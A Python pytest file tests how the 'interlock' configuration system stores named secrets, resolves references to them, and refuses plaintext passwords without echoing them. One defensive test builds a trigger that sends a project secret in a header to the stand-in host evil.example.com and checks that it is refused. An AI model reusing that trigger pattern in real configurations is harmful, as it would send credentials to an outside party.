"""Secrets by name: where they are kept, who may refer to them, and that none is written out."""

from __future__ import annotations

from pathlib import Path

import pytest
from tests.unit.config.projects import loaded, problems_of, small_project, write_pipeline
from tests.unit.config.registering import SOUND, refused

from interlock.config.project import SecretSpec

ARN = "arn:aws:secretsmanager:eu-central-1:123456789012:secret:hook-AbCdEf"
KEPT = f"""
secrets:
  hook: {{env: HOOK_KEY}}
  airflow: {{file: private/airflow}}
  databricks: {{awsSecret: "{ARN}", field: token}}
"""
HOOK = 'trigger: {type: http, url: "https://a.example.com", headers: {authorization: "Bearer ${secret:NAME}"}}\n'


def _project(at: Path, kept: str, pipeline: str = "") -> Path:
    root = small_project(at)
    file = root / "interlock.yaml"
    file.write_text(file.read_text() + kept)
    write_pipeline(root, "asks", pipeline)
    return root


def _words(at: Path, kept: str, pipeline: str = "") -> str:
    return "\n".join(map(str, problems_of(_project(at, kept, pipeline))))


def test_a_secret_is_kept_in_one_place(tmp_path: Path) -> None:
    root = _project(tmp_path, KEPT, HOOK.replace("NAME", "hook"))
    assert loaded(root).settings.secrets == {
        "hook": SecretSpec(env="HOOK_KEY"),
        "airflow": SecretSpec(file=root / "private" / "airflow"),
        "databricks": SecretSpec(aws_secret=ARN, field="token"),
    }


@pytest.mark.parametrize(
    ("entry", "words"),
    [
        ("hook: {}", "the secret 'hook' has no place where it is kept"),
        ("hook: {env: A, file: b}", "the secret 'hook' has several places where it is kept"),
        ("hook: {env: not-a-variable}", "is no name of an environment variable"),
        ("hook: {awsSecret: 'arn:aws:s3:::bucket'}", "is no ARN of AWS Secrets Manager"),
        ("hook: {file: a, field: b}", "is a text, and has no fields"),
        ("hook: {vault: a}", "unknown key 'vault'"),
        ("'a b': {env: A}", "cannot be the name of a secret"),
        ("hook: written-out", "secrets.hook"),
    ],
)
def test_a_secret_without_a_proper_place_is_refused(tmp_path: Path, entry: str, words: str) -> None:
    said = _words(tmp_path, f"\nsecrets:\n  {entry}\n")
    assert words in said
    assert "interlock.yaml:" in said


def test_a_secret_that_nobody_named_is_refused_with_the_nearest_one(tmp_path: Path) -> None:
    said = _words(tmp_path, KEPT, HOOK.replace("NAME", "hok"))
    assert "pipelines/asks.yaml:6:" in said
    assert "did you mean hook?" in said


def test_a_secret_that_is_written_out_is_refused_and_not_repeated(tmp_path: Path) -> None:
    """G7, T-76, T-81: whoever reads the project could see it."""
    trigger = "trigger: {type: airflow, url: 'https://a.example.com', dagID: sales, username: ann, password: hunter2}\n"
    said = _words(tmp_path, "", trigger)
    assert "a secret is written out under password" in said
    assert "hunter2" not in said


def test_a_secret_by_reference_is_taken(tmp_path: Path) -> None:
    trigger = (
        "trigger: {type: airflow, url: 'https://a.example.com', dagID: sales, username: ann, "
        "password: '${secret:airflow}'}\n"
    )
    assert "asks" in loaded(_project(tmp_path, KEPT, trigger)).pipelines


def test_a_registered_pipeline_may_not_use_them(tmp_path: Path) -> None:
    """T-72: it would say itself where they are sent."""
    project = loaded(_project(tmp_path, KEPT))
    trigger = {"type": "http", "url": "https://evil.example.com", "headers": {"x": "${secret:hook}"}}
    assert "may not use the project's secrets" in refused(project, SOUND | {"trigger": trigger})


def test_where_a_job_reports_its_end_is_known_only_with_a_public_address(tmp_path: Path) -> None:
    trigger = 'trigger: {type: http, url: "https://a.example.com", body: {done: "{{callback_url}}"}}\n'
    assert "callback_url stands for nothing here" in _words(tmp_path / "a", "", trigger)
    root = _project(tmp_path / "b", "", trigger)
    file = root / "interlock.yaml"
    text = file.read_text()
    assert "server:" in text
    file.write_text(text.replace("server:", "server:\n  publicUrl: https://ops.example.com", 1))
    assert "asks" in loaded(root).pipelines


def test_an_evaluator_is_given_none(tmp_path: Path) -> None:
    """Programs that check data see what `env.allow` lets through, and nothing that opens other systems."""
    check = "  schema-contract: {evaluator: 'builtin:http-json', config: {url: 'https://a.example.com/${secret:hook}', expect: {}}}\n"
    said = _words(tmp_path, KEPT, check)
    assert "${secret:hook}: the project has no such secret" in said


def test_a_secret_of_aws_needs_what_asks_aws(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("interlock.config.build_secrets.find_spec", lambda name: None)
    kept = "secrets: {hook: {awsSecret: 'arn:aws:secretsmanager:eu-west-1:123456789012:secret:hook-AbCdEf'}}\n"
    assert "the secret 'hook' needs an optional dependency (pip install 'interlock[aws]')" in _words(tmp_path, kept)
